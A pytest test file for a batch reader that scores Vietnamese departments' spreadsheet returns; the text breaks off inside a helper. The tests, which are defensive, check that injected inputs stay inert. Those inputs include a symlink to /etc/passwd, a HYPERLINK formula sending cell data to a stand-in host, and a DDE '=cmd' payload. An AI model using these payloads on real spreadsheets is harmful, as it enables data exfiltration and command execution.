"""A real inbox: whatever one file holds or does, the batch goes on; every entry
of the folder is in the manifest once; the return a unit meant is the one used;
nothing outside the folder is read, and the inputs are left as they were."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import json
import multiprocessing
import os
import re
import shutil
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import long_rows

from dti_report.batch import run as batch_run
from dti_report.batch.inbox import InboxError, discover_entries, read_decisions
from dti_report.batch.run_folder import write_run_files
from dti_report.cli import main
from dti_report.core.issues import CODES
from dti_report.evaluation.scoring import score_rows
from dti_report.evaluation.unit_values import type_rows
from dti_report.forms.units import builtin_registry
from dti_report.kinds import catalog as forms_catalog
from dti_report.kinds import get_form
from dti_report.checking import check_file
from dti_report.pipeline import run_batch
from dti_report.renderers.documents import CompiledTemplate, render_docx
from dti_report.workbook import reader
from dti_report.workbook.fill import fill_workbook
from dti_report.workbook.layout import template_file_name
from dti_report.workbook.longfile import read_long_file
from dti_report.workbook.reader import ACCEPTED, IGNORED, REJECTED, SUPERSEDED, Limits, read_submission
from dti_report.workbook.templates import write_template, write_templates
from dti_report.workbook.xlsx import CELL_LIMIT, cell_text

CORPUS = Path(__file__).resolve().parent / "data" / "bad_workbooks"
PERIOD = "2023"
SO_TTTT = template_file_name("so-tttt", "hcm-dti-so", PERIOD)
FORK = multiprocessing.get_start_method() == "fork"


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    path = tmp_path_factory.mktemp("tpl") / SO_TTTT
    write_template(get_form("hcm-dti-so"), builtin_registry().by_code()["so-tttt"], PERIOD, path)
    return path


def filled(template: Path, target: Path, values: dict | None = None, unit: str = "so-tttt") -> Path:
    """so-tttt's template filled with a few values (1.1 option 1 = 10 points by default)."""
    source = template
    if unit != "so-tttt":  # beside so-tttt's template, never in an inbox
        source = template.parent / f"tpl-{unit}.xlsx"
        if not source.exists():
            write_template(get_form("hcm-dti-so"), builtin_registry().by_code()[unit], PERIOD, source)
    target.parent.mkdir(parents=True, exist_ok=True)
    return fill_workbook(get_form("hcm-dti-so"), source, values or {"1.1": "1", "1.2.a": "7", "1.2.b": "11"}, target)


def restamp(path: Path, modified: str, application: str = "Microsoft Excel") -> None:
    """The save time and the program a spreadsheet program would stamp."""
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts["docProps/core.xml"] = re.sub(rb"(<dcterms:modified[^>]*>)[^<]+", rb"\g<1>" + modified.encode(),
                                        parts["docProps/core.xml"])
    parts["docProps/app.xml"] = re.sub(rb"<Application>[^<]*</Application>",
                                       b"<Application>" + application.encode() + b"</Application>",
                                       parts["docProps/app.xml"])
    assert modified.encode() in parts["docProps/core.xml"] and application.encode() in parts["docProps/app.xml"]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def by_path(batch) -> dict:
    return {s.path: s for s in batch.submissions}


def points(batch, unit: str, criterion: str) -> float:
    table = batch.results["hcm-dti-so"].scores
    return table[(table.unit_code == unit) & (table.criterion == criterion)].iloc[0].verified_score


# --- 1. isolation ---------------------------------------------------------------------

def _dies_on(name: str):
    original = batch_run.read_submission

    def read(path, *args, **kwargs):
        if Path(path).name == name:
            os._exit(134)  # the worker dies as a native crash would leave it
        return original(path, *args, **kwargs)
    return read


@pytest.mark.skipif(not FORK, reason="the test's stand-in crash reaches workers only when they are forked")
def test_a_worker_that_dies_fails_its_file_only(template, tmp_path, monkeypatch):
    inbox = tmp_path / "inbox"
    for unit in ("so-tttt", "so-gtvt", "so-tu-phap"):
        filled(template, inbox / template_file_name(unit, "hcm-dti-so", PERIOD), unit=unit)
    (inbox / "b-killer.xlsx").write_bytes((CORPUS / "38-rows-moved.xlsx").read_bytes())
    monkeypatch.setattr(batch_run, "read_submission", _dies_on("b-killer.xlsx"))
    batch = run_batch(inbox, PERIOD, builtin_registry(), workers=2)
    subs = by_path(batch)
    assert [i.code for i in subs["b-killer.xlsx"].issues] == ["reading-crashed"]
    assert subs["b-killer.xlsx"].status == REJECTED
    assert {s.status for p, s in subs.items() if p != "b-killer.xlsx"} == {ACCEPTED}
    assert set(batch.results["hcm-dti-so"].totals.unit_code) == {"so-tttt", "so-gtvt", "so-tu-phap"}


def test_memory_blow_up_is_the_files_rejection(template, tmp_path):
    """Limits wide enough to let calamine build XFD1048576's grid (512 GiB): the worker's
    address-space cap stops it, the pool is replaced, the other files are read."""
    inbox = tmp_path / "inbox"
    filled(template, inbox / SO_TTTT)
    shutil.copy(CORPUS / "49-far-cell.xlsx", inbox / "a-far.xlsx")
    loose = Limits(max_sheet_rows=2_000_000, max_sheet_columns=20_000, worker_memory_bytes=512 * 1024 * 1024)
    batch = run_batch(inbox, PERIOD, builtin_registry(), workers=1, limits=loose)
    subs = by_path(batch)
    assert subs["a-far.xlsx"].status == REJECTED
    assert [i.code for i in subs["a-far.xlsx"].issues] in (["reading-crashed"], ["reading-failed"])
    assert subs[SO_TTTT].status == ACCEPTED


def test_an_exception_anywhere_is_reading_failed(template, tmp_path, monkeypatch):
    path = filled(template, tmp_path / SO_TTTT)

    def broken(*args, **kwargs):
        raise ZeroDivisionError("division by zero")
    monkeypatch.setattr(reader, "_read_meta", broken)
    sub = read_submission(path, tmp_path, builtin_registry(), PERIOD, catalog=forms_catalog())
    assert sub.status == REJECTED and [i.code for i in sub.issues] == ["reading-failed"]
    issue = sub.issues[0]
    assert "ZeroDivisionError" in issue.technical and "Zero" not in issue.message


@pytest.mark.parametrize("head, encoding", [
    (b"M\x00i\x00c\x00r\x00", None),               # printer settings: a UTF-16LE device name, no BOM
    (b"\x01\x00\x00\x00X\x00\x00\x00", None),      # EMF header record
    (b"\xd7\xcd\xc6\x9a\x00\x00", None),           # placeable WMF
    (b"\x89PNG\r\n\x1a\n", None),
    (b"<?xml version", "utf-8"), (b"\xef\xbb\xbf<?xml", "utf-8"), (b"  \r\n<a/>", "utf-8"),
    (b"\xff\xfe<\x00?\x00", "utf-16"), (b"<\x00?\x00x\x00", "utf-16-le"), (b"\x00<\x00?", "utf-16-be"),
])
def test_only_parts_that_can_be_xml_are_sniffed(head, encoding):
    assert reader._xml_encoding(head) == encoding


# --- 2. bounded reading ------------------------------------------------------------------

def test_far_cell_in_an_xls_is_named():
    """.xls sheets are scanned record by record too: with room for 100 rows only, the input
    sheet (123 rows) is refused at its first cell past row 100, before calamine builds it."""
    sub = read_submission(CORPUS / "37-legacy.xls", CORPUS, builtin_registry(), PERIOD,
                          Limits(max_sheet_rows=100), catalog=forms_catalog())
    assert sub.status == REJECTED
    [issue] = [i for i in sub.issues if i.code == "sheet-too-large"]
    assert issue.sheet == "Nhập liệu" and re.fullmatch(r"[A-H]101", issue.cell)


# --- 3. every entry accounted for ----------------------------------------------------------

@pytest.fixture
def odd_inbox(template, tmp_path):
    """An inbox with one of everything a folder can hold."""
    inbox = tmp_path / "inbox"
    outside = tmp_path / "outside"
    filled(template, inbox / SO_TTTT)
    filled(template, outside / template_file_name("so-gtvt", "hcm-dti-so", PERIOD), unit="so-gtvt")
    (inbox / "links").mkdir()
    os.symlink(outside / template_file_name("so-gtvt", "hcm-dti-so", PERIOD),
               inbox / "links" / template_file_name("so-gtvt", "hcm-dti-so", PERIOD))
    os.symlink("/etc/passwd", inbox / "links" / "passwd.xlsx")
    os.symlink(inbox / "links" / "nowhere.xlsx", inbox / "links" / "dangling.xlsx")
    os.symlink("loop-b.xlsx", inbox / "links" / "loop-a.xlsx")
    os.symlink("loop-a.xlsx", inbox / "links" / "loop-b.xlsx")
    os.symlink(outside, inbox / "links" / "folder")
    os.mkfifo(inbox / "fifo.xlsx")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(inbox / "s.sock"))
    # A name from a Windows zip archive: CP1258 bytes, not UTF-8 ("Sở Y tế" by the Vietnamese code page).
    raw_name = b"so-tttt_hcm-dti-so_2023_b\xe1o-c\xe1o.xlsx"
    with open(os.path.join(os.fsencode(inbox), raw_name), "wb") as f:
        f.write((CORPUS / "38-rows-moved.xlsx").read_bytes())
    # A unit whose only file is unusable: truncated.
    (inbox / template_file_name("so-khdt", "hcm-dti-so", PERIOD)).write_bytes((CORPUS / "04-truncated.xlsx").read_bytes())
    (inbox / "locked").mkdir()
    (inbox / "locked" / "hidden.xlsx").write_bytes(b"")
    # A path past PATH_MAX, built one folder at a time relative to the last.
    deep = os.open(inbox, os.O_RDONLY)
    try:
        for _ in range(24):
            name = "d" * 200
            os.mkdir(name, dir_fd=deep)
            nxt = os.open(name, os.O_RDONLY, dir_fd=deep)
            os.close(deep)
            deep = nxt
        fd = os.open("sau.xlsx", os.O_WRONLY | os.O_CREAT, dir_fd=deep)
        os.close(fd)
    finally:
        os.close(deep)
    yield inbox
    server.close()


def _unreadable(locked: Path):
    """Folder permissions do not stop root (tests may run as root): the listing is refused here."""
    real = os.scandir

    def scandir(path="."):
        if not isinstance(path, int) and Path(os.fsdecode(path)) == locked:  # (a descriptor: shutil.rmtree's)
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)
    return scandir


def test_every_entry_once_nothing_outside_read(odd_inbox, tmp_path, monkeypatch):
    monkeypatch.setattr(os, "scandir", _unreadable(odd_inbox / "locked"))
    batch = run_batch(odd_inbox, PERIOD, builtin_registry(), workers=1)
    out = tmp_path / "out"
    write_run_files(batch, out)
    with open(out / "manifest.csv", encoding="utf-8-sig", newline="") as f:
        manifest = list(csv.DictReader(f))
    paths = [r["path"] for r in manifest]
    assert len(paths) == len(set(paths))
    rows = {r["path"]: r for r in manifest}
    link = f"links/{template_file_name('so-gtvt', 'hcm-dti-so', PERIOD)}"
    expected = {
        SO_TTTT: ("accepted", "tệp"),
        link: ("ignored", "liên kết"), "links/passwd.xlsx": ("ignored", "liên kết"),
        "links/dangling.xlsx": ("ignored", "liên kết"), "links/loop-a.xlsx": ("ignored", "liên kết"),
        "links/loop-b.xlsx": ("ignored", "liên kết"), "links/folder": ("ignored", "liên kết"),
        "fifo.xlsx": ("ignored", "ống dẫn (FIFO)"), "s.sock": ("ignored", "socket"),
        "so-tttt_hcm-dti-so_2023_b\ufffdo-c\ufffdo.xlsx": ("superseded", "tệp"),  # read; so-tttt sent a newer one
        template_file_name("so-khdt", "hcm-dti-so", PERIOD): ("rejected", "tệp"),
        "locked": ("rejected", "thư mục"),
    }
    for path, (status, entry) in expected.items():
        assert (rows[path]["status"], rows[path]["entry"]) == (status, entry), path
    [deep] = [p for p in paths if p.startswith("d" * 200)]
    assert rows[deep]["status"] == "rejected" and "quá dài" in rows[deep]["reason"]
    assert len(paths) == len(expected) + 1
    # Links are listed with their target, never read: no hash of /etc/passwd, no so-gtvt scores.
    assert rows["links/passwd.xlsx"]["target"] == "/etc/passwd" and rows["links/passwd.xlsx"]["sha256"] == ""
    assert rows[link]["sha256"] == "" and "so-gtvt" not in set(batch.results["hcm-dti-so"].totals.unit_code)
    assert rows["so-tttt_hcm-dti-so_2023_b\ufffdo-c\ufffdo.xlsx"]["path_bytes"] == \
        "so-tttt_hcm-dti-so_2023_b\\xe1o-c\\xe1o.xlsx"
    assert "không có quyền đọc" in rows["locked"]["reason"]
    # The unit whose only file is corrupt sent something: not "chưa gửi".
    fb = batch.forms["hcm-dti-so"]
    assert "so-khdt" in fb.unusable and "so-khdt" not in {u.code for u in fb.unsent}
    unit_issues = {(i.code, i.unit) for i in batch.issues if i.unit == "so-khdt"}
    assert ("submission-unusable", "so-khdt") in unit_issues and ("missing-submission", "so-khdt") not in unit_issues
    assert ("missing-submission", "so-noi-vu") in {(i.code, i.unit) for i in batch.issues}


def test_an_unreadable_inbox_is_said_in_vietnamese(tmp_path, monkeypatch):
    monkeypatch.setattr(os, "scandir", _unreadable(tmp_path))
    with pytest.raises(InboxError, match="không đọc được thư mục đầu vào"):
        discover_entries(tmp_path)


def test_check_refuses_links_and_fifos_as_run_does(odd_inbox):
    for name in ("links/passwd.xlsx", "fifo.xlsx"):
        checked = check_file(odd_inbox / name, builtin_registry(), forms_catalog(), root=odd_inbox)
        assert checked.submission.status == IGNORED and checked.submission.sha256 == ""


# --- 4. which return wins ------------------------------------------------------------------

def test_libreoffice_local_time_is_read_in_the_workspace_zone(template, tmp_path):
    """Excel saved at 12:00 in Hà Nội (05:00Z); LibreOffice saved at 10:00 and wrote "10:00Z".
    Compared as written, LibreOffice's file looks two hours newer; it is two hours older."""
    inbox = tmp_path / "inbox"
    excel = filled(template, inbox / "excel" / SO_TTTT, {"1.1": "1"})
    restamp(excel, "2024-01-15T05:00:00Z")
    calc = filled(template, inbox / "libreoffice" / SO_TTTT, {"1.1": "3"})
    restamp(calc, "2024-01-15T10:00:00Z", "LibreOffice/7.4.7.2$Linux_X86_64 LibreOffice_project/40$Build-2")
    batch = run_batch(inbox, PERIOD, builtin_registry(), workers=1)
    subs = by_path(batch)
    assert subs[f"excel/{SO_TTTT}"].status == ACCEPTED
    assert subs[f"libreoffice/{SO_TTTT}"].status == SUPERSEDED
    assert subs[f"excel/{SO_TTTT}"].modified == "2024-01-15T12:00:00+07:00"
    assert subs[f"libreoffice/{SO_TTTT}"].modified == "2024-01-15T10:00:00+07:00"
    assert points(batch, "so-tttt", "1.1") == 10
    assert f"excel/{SO_TTTT}" in subs[f"libreoffice/{SO_TTTT}"].reason
    # The same stamps in another workspace zone: LibreOffice's 10:00 in Tokyo is 01:00Z.
    tokyo = run_batch(inbox, PERIOD, builtin_registry(), workers=1, timezone="Asia/Tokyo")
    assert by_path(tokyo)[f"libreoffice/{SO_TTTT}"].modified == "2024-01-15T10:00:00+09:00"


def test_a_stamp_in_the_future_does_not_win_by_itself(template, tmp_path):
    inbox = tmp_path / "inbox"
    genuine = filled(template, inbox / "a" / SO_TTTT, {"1.1": "1"})
    restamp(genuine, "2024-01-15T05:00:00Z")
    copied = filled(template, inbox / "b" / SO_TTTT, {"1.1": "3"})
    restamp(copied, "2099-01-01T00:00:00Z")
    batch = run_batch(inbox, PERIOD, builtin_registry(), workers=1)
    subs = by_path(batch)
    assert (subs[f"a/{SO_TTTT}"].status, subs[f"b/{SO_TTTT}"].status) == (ACCEPTED, SUPERSEDED)
    assert [i.code for i in subs[f"b/{SO_TTTT}"].issues if i.severity == "warning"][:1] == ["suspicious-save-time"]
    assert "không đáng tin" in subs[f"b/{SO_TTTT}"].reason
    # Far before the period is no more believable than the future.
    restamp(copied, "2001-05-01T00:00:00Z")
    restamp(genuine, "2024-01-15T05:00:00Z")
    subs = by_path(run_batch(inbox, PERIOD, builtin_registry(), workers=1))
    assert subs[f"b/{SO_TTTT}"].stamp_trusted is False and subs[f"a/{SO_TTTT}"].status == ACCEPTED


@pytest.mark.parametrize("kind", ["csv", "yaml"])
def test_the_clerks_decision_pins_a_return(template, tmp_path, kind):
    inbox = tmp_path / "inbox"
    newer = filled(template, inbox / "a" / SO_TTTT, {"1.1": "1"})
    restamp(newer, "2024-01-16T05:00:00Z")
    older = filled(template, inbox / "b" / SO_TTTT, {"1.1": "3"})
    restamp(older, "2024-01-10T05:00:00Z")
    decisions = tmp_path / f"quyet-dinh.{kind}"
    reason = "Đơn vị xác nhận qua điện thoại: bản ngày 10/01 là bản đúng"
    if kind == "csv":
        decisions.write_text(f"file,reason\nb/{SO_TTTT},{reason}\nkhong-co.xlsx,\n", encoding="utf-8")
    else:
        decisions.write_text(f"pin:\n  - file: b/{SO_TTTT}\n    reason: '{reason}'\n  - khong-co.xlsx\n",
                             encoding="utf-8")
    batch = run_batch(inbox, PERIOD, builtin_registry(), workers=1, decisions=decisions)
    subs = by_path(batch)
    assert (subs[f"b/{SO_TTTT}"].status, subs[f"a/{SO_TTTT}"].status) == (ACCEPTED, SUPERSEDED)
    assert points(batch, "so-tttt", "1.1") == 0
    assert reason in subs[f"a/{SO_TTTT}"].reason
    assert [(i.code, i.value) for i in batch.issues if i.code == "decision-not-applied"] == \
        [("decision-not-applied", "khong-co.xlsx")]
    out = tmp_path / "out"
    write_run_files(batch, out)
    manifest = pd.read_csv(out / "manifest.csv", dtype=str, keep_default_na=False).set_index("path")
    assert reason in manifest.loc[f"a/{SO_TTTT}", "reason"]


def test_a_broken_decisions_file_is_said_in_vietnamese(tmp_path):
    bad = tmp_path / "quyet-dinh.csv"
    bad.write_text("tep,ly_do\nx.xlsx,y\n", encoding="utf-8")
    with pytest.raises(InboxError, match="thiếu cột 'file'"):
        read_decisions(bad)


def test_ods_and_xls_stamps(tmp_path):
    """ODS meta.xml: LibreOffice's local time without a zone (nanoseconds too); .xls: the
    summary stream's time, UTC."""
    zone = reader.workspace_zone()
    ods = tmp_path / "a.ods"
    with zipfile.ZipFile(ods, "w") as z:
        z.writestr("meta.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-meta xmlns:office="urn:oasis:'
                               'names:tc:opendocument:xmlns:office:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
                               "<office:meta><dc:date>2024-01-15T16:30:05.123456789</dc:date></office:meta>"
                               "</office:document-meta>")
    with zipfile.ZipFile(ods) as archive:
        stamp = reader.save_stamp(archive, b"", reader.ODS, zone)
    assert stamp.isoformat() == "2024-01-15T16:30:05+07:00"
    saved = reader.save_stamp(None, (CORPUS / "37-legacy.xls").read_bytes(), reader.XLS, zone)
    assert saved is not None and saved.utcoffset().total_seconds() == 0


# --- 6. safe outputs -------------------------------------------------------------------------

def test_issue_texts_are_capped_and_say_how_long(template, tmp_path):
    """30,000 characters typed into a count: the issue keeps 300 of them and the length."""
    huge = "ạ" * 30_000
    path = filled(template, tmp_path / SO_TTTT)
    _write_text_cell(path, "1.2.a", huge)
    checked = check_file(path, builtin_registry(), forms_catalog(), period=PERIOD)
    [issue] = [i for i in checked.issues if i.code == "not-a-number"]
    assert issue.value.startswith("ạ" * 300) and "(cắt bớt, dài 30.000 ký tự)" in issue.value
    assert len(issue.value) < 350 and len(issue.message) < 500


def _write_text_cell(path: Path, field_id: str, text: str) -> None:
    book = openpyxl.load_workbook(path)
    sheet = book["Nhập liệu"]
    row = next(c.row for c in sheet["H"] if c.value == field_id)
    sheet.cell(row, 5).value = text
    book.save(path)


def test_library_words_never_reach_a_unit(tmp_path):
    """Over the whole corpus: every message is Vietnamese; what a library said is in the
    technical column only."""
    batch = run_batch(CORPUS, PERIOD, builtin_registry(), workers=2)
    english = re.compile(r"[A-Z][a-z]+Error|Errno|BadZip|Calamine|Exception|Traceback|File \"")
    assert not [i.message for i in batch.issues if english.search(i.message)]
    corrupt = [i for i in batch.issues if i.code == "corrupt-workbook" and i.file == "04-truncated.xlsx"]
    assert corrupt and "BadZipFile" in corrupt[0].technical


def test_new_codes_are_documented():
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    for code in ("reading-failed", "reading-crashed", "sheet-too-large", "unsupported-format", "unit-title-mismatch",
                 "path-too-long", "folder-unreadable", "symlink-ignored", "special-file-ignored", "name-not-utf8",
                 "submission-unusable", "suspicious-save-time", "decision-not-applied", "implausible-number",
                 "mixed-not-applicable", "missing-field", "invalid-info"):
        assert code in CODES and f"`{code}`" in readme, code


# --- 9. the corpus as one batch ----------------------------------------------------------------

def _digests(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in folder.rglob("*") if p.is_file()}


def _injection_inbox(tmp_path: Path) -> Path:
    """The formula-like return alone for so-tttt (so its values are typed), refused files
    beside it, and file names a spreadsheet would run."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name in ("66-formula-text.xlsx", "04-truncated.xlsx", "12-not-a-template.xlsx", "65-flat-ods.fods"):
        shutil.copy(CORPUS / name, inbox / name)
    for name in ("=HYPERLINK(1).xlsx", "-rf.txt", "@SUM(1).pdf", "+1.xlsx"):
        (inbox / name).write_bytes(b"not a workbook")
    return inbox


def test_outputs_hold_no_formula_and_inputs_are_untouched(tmp_path):
    inbox = _injection_inbox(tmp_path)
    before = _digests(inbox)
    batch = run_batch(inbox, PERIOD, builtin_registry(), workers=2)
    out = tmp_path / "out"
    write_run_files(batch, out)
    assert _digests(inbox) == before
    for name in ("issues.csv", "manifest.csv"):
        with open(out / name, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        # What a spreadsheet would run: a cell starting with = + - @, a tab or CR, or spaces then = + - @.
        runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                    or c.lstrip(" ")[:1] in ("=", "+", "-", "@")]
        assert runnable == [], (name, runnable[:5])
        assert any(c.startswith("'=") for c in cells), name  # the test did meet such text
    with open(out / "issues.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    typed = {r["value"] for r in rows if r["file"] == "66-formula-text.xlsx" and r["code"] == "not-a-number"}
    assert typed == {"'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Bấm vào đây\")",
                     "'\t=cmd|' /C calc'!A0", "'-2+3"}  # the unit's tab kept, behind the apostrophe


def test_spreadsheet_sees_no_formula_in_the_csv_files(tmp_path):
    """issues.csv and manifest.csv opened by LibreOffice as a clerk would: no cell is a formula."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) không có trên máy")
    batch = run_batch(_injection_inbox(tmp_path), PERIOD, builtin_registry(), workers=2)
    out = tmp_path / "out"
    write_run_files(batch, out)
    profile = tmp_path / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path / "xlsx"),
                    str(out / "issues.csv"), str(out / "manifest.csv")],
                   check=True, capture_output=True, timeout=600)
    for name in ("issues", "manifest"):
        sheet = openpyxl.load_workbook(tmp_path / "xlsx" / f"{name}.xlsx").active
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], name
        texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        assert any(t.startswith("'=") for t in texts), name  # the text is there, inert


# --- 5. values as the unit meant them (the one typing path) -----------------------------------

def _status(result, criterion):
    row = result.scores[(result.scores.unit_code == "so-tttt") & (result.scores.criterion == criterion)].iloc[0]
    return row.status, row.verified_score


def test_na_beside_a_figure_is_an_error_naming_both_cells():
    """1.4: no portal section ("Chưa có chuyên mục": the decision gives 0) and N/A typed in the
    posts count. Before, N/A in one field made the whole criterion 10 points."""
    form = get_form("hcm-dti-so")
    rows = long_rows([("so-tttt", "1.4.a", "Chưa có chuyên mục"), ("so-tttt", "1.4.b", "N/A")])
    result = score_rows(form, rows)
    [issue] = [i for i in result.issues if i.code == "mixed-not-applicable"]
    assert (issue.cell, issue.field, issue.criterion, issue.detail) == ("dòng 3", "1.4.b", "1.4", "ô dòng 2")
    assert _status(result, "1.4")[0] == "invalid"


def test_na_only_as_the_unit_marks_it():
    form = get_form("hcm-dti-so")
    # N/A in every field, or N/A beside blanks: not applicable, full points.
    for rows in ([("so-tttt", "1.2.a", "N/A"), ("so-tttt", "1.2.b", "không áp dụng")],
                 [("so-tttt", "1.2.a", "N/A"), ("so-tttt", "1.2.b", "")]):
        result = score_rows(form, long_rows(rows))
        assert _status(result, "1.2") == ("not-applicable", 10)
        assert not [i for i in result.issues if i.severity == "error"]
    # The item's own N/A row stands whatever its fields hold (the template's formula agrees).
    result = score_rows(form, long_rows([("so-tttt", "1.2.khong-ap-dung", "Không áp dụng"),
                                         ("so-tttt", "1.2.a", "3"), ("so-tttt", "1.2.b", "4")]))
    assert _status(result, "1.2") == ("not-applicable", 10)


def test_a_deleted_row_is_missing_field_for_a_workbook_only():
    form = get_form("hcm-dti-so")
    rows = long_rows([("so-tttt", "1.2.a", "7")])
    rows["sheet"] = "Nhập liệu"
    data = type_rows(form, rows, ["so-tttt"], PERIOD, expected={"so-tttt": {"1.2.a", "1.2.b"}})
    [issue] = [i for i in data.issues if i.code == "missing-field"]
    assert (issue.field, issue.sheet, issue.criterion, issue.cell) == ("1.2.b", "Nhập liệu", "1.2", "")
    assert bool(data.invalid.at["so-tttt", "1.2.b"])
    long_format = type_rows(form, long_rows([("so-tttt", "1.2.a", "7")]), ["so-tttt"], PERIOD)
    assert not [i for i in long_format.issues if i.code == "missing-field"]


def test_general_information_is_typed_as_warnings():
    form = get_form("hcm-dti-so")
    rows = long_rows([("so-tttt", "tt.2.1.e", "nguyenvana-at-tttt.gov.vn"), ("so-tttt", "tt.2.2.e", "a@tttt.gov.vn"),
                      ("so-tttt", "tt.2.1.d", "028 3822 1234"), ("so-tttt", "tt.2.2.d", "12"),
                      ("so-tttt", "tt.1.5", "ba trăm"), ("so-tttt", "tt.1.6", "120")])
    data = type_rows(form, rows, ["so-tttt"], PERIOD)
    found = {(i.field, i.severity) for i in data.issues if i.code == "invalid-info"}
    assert found == {("tt.2.1.e", "warning"), ("tt.2.2.d", "warning"), ("tt.1.5", "warning")}
    assert data.info["tt.2.1.d"]["so-tttt"] == "028 3822 1234"


def test_notes_are_kept_with_the_typed_values():
    sub = read_submission(CORPUS / "46-xls-note-mentions-encryptioninfo.xls", CORPUS, builtin_registry(), PERIOD,
                          catalog=forms_catalog())
    form = get_form("hcm-dti-so")
    data = type_rows(form, sub.rows, ["so-tttt"], PERIOD)
    assert data.notes["1.2.a"]["so-tttt"] == "Xem tệp đính kèm EncryptionInfo.pdf"


# --- 6. what is written: XML never carries a unit's control characters or template syntax ---------

def test_word_values_are_text(tmp_path):
    """A form feed, a bell and docxtpl's brace escapes in a value: no page break, no new
    paragraph, the braces as typed; "&" and "<" stay text (the old recovering parse dropped
    everything after a bad character)."""
    template = tmp_path / "mau.docx"
    document = docx.Document()
    document.add_paragraph("Ghi chú: {{ note }}")
    document.add_paragraph("Sau: {{ after }}")
    document.save(template)
    context = {"note": "a\x0cb\x07c {_{ x }_} {_% y %_} & <d>", "after": "Tiếp theo & hết"}
    day = dt.date(2024, 1, 15)
    for render in ("compiled", "docxtpl"):
        target = tmp_path / f"{render}.docx"
        if render == "compiled":
            CompiledTemplate(template).render(context, target, day=day, title="t", author="a")
        else:
            render_docx(template, context, target, day=day, title="t", author="a")
        with zipfile.ZipFile(target) as z:
            xml = z.read("word/document.xml").decode("utf-8")
        assert 'w:type="page"' not in xml, render
        texts = [p.text for p in docx.Document(target).paragraphs]
        assert texts == ["Ghi chú: abc {_{ x }_} {_% y %_} & <d>", "Sau: Tiếp theo & hết"], render


def test_xlsx_cells_lose_control_characters_and_say_when_cut():
    assert cell_text("a\x07b\x0bc\td") == "abc\td"
    cut = cell_text("x" * 40_000)
    assert len(cut) == CELL_LIMIT and cut.endswith("[cắt bớt: 40.000 ký tự, ô chỉ chứa 32.767]")


# --- 9. the corpus among good returns; memory ------------------------------------------------

SAMPLES = Path(__file__).resolve().parents[1] / "input_samples"


@pytest.fixture(scope="module")
def good_inbox(tmp_path_factory):
    """Every department's return, filled from the long-format sample."""
    root = tmp_path_factory.mktemp("good")
    form = get_form("hcm-dti-so")
    rows = read_long_file(SAMPLES / "hcm-dti-so-2023.csv")
    by_unit = {u: dict(zip(g["field"], g["value"])) for u, g in rows.groupby("unit_code")}
    for template in write_templates(form, builtin_registry().units_for_set("hcm-dti-so"), PERIOD, root / "tpl"):
        unit = template.name.split("_")[0]
        fill_workbook(form, template, by_unit.get(unit, {}), root / "inbox" / template.name)
    return root / "inbox"


def test_good_returns_score_alike_beside_every_bad_one(good_inbox, tmp_path):
    alone = run_batch(good_inbox, PERIOD, builtin_registry(), workers=2)
    mixed_inbox = tmp_path / "mixed"
    shutil.copytree(good_inbox, mixed_inbox)
    shutil.copytree(CORPUS, mixed_inbox / "hop-thu-loi")
    decisions = tmp_path / "quyet-dinh.csv"
    decisions.write_text(f"file,reason\n{SO_TTTT},bản đúng của Sở TTTT\n", encoding="utf-8")
    mixed = run_batch(mixed_inbox, PERIOD, builtin_registry(), workers=2, decisions=decisions)
    columns = ["unit_code", "criterion", "self_score", "self_status", "verified_score", "status"]
    pd.testing.assert_frame_equal(alone.results["hcm-dti-so"].scores[columns],
                                  mixed.results["hcm-dti-so"].scores[columns])
    pd.testing.assert_frame_equal(alone.results["hcm-dti-so"].totals, mixed.results["hcm-dti-so"].totals)
    # The clerk pinned the good so-tttt return: every bad so-tttt workbook the reader accepted is superseded.
    statuses = {s.status for s in mixed.submissions if s.path.startswith("hop-thu-loi/")}
    assert statuses == {REJECTED, SUPERSEDED, IGNORED}


MEMORY_SCRIPT = r"""
import json, resource, sys
from pathlib import Path
limit = 1024 ** 3
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
from dti_report.batch.run_folder import write_run_files
from dti_report.cli import main
from dti_report.forms.units import builtin_registry
from dti_report.pipeline import run_batch
inbox, out = Path(sys.argv[1]), Path(sys.argv[2])
batch = run_batch(inbox, "2023", builtin_registry(), workers=2)
write_run_files(batch, out)
print(json.dumps({
    "files": {s.path: [s.status, [i.code for i in s.issues]] for s in batch.submissions},
    "self": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
    "children": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss,
}))
"""


def _huge_string_workbook(template: Path, target: Path) -> None:
    """12 million characters of random text in 1.2.b (a count): an 11 MB file, within every
    container limit, whose value would be copied into the issues whole."""
    path = filled(template, target.parent / "huge-source.xlsx")
    text = base64.b64encode(hashlib.shake_256(b"dti").digest(9_000_000)).decode()
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    cell = "E32"  # 1.2.b in so-tttt's template
    xml = parts["xl/worksheets/sheet2.xml"]
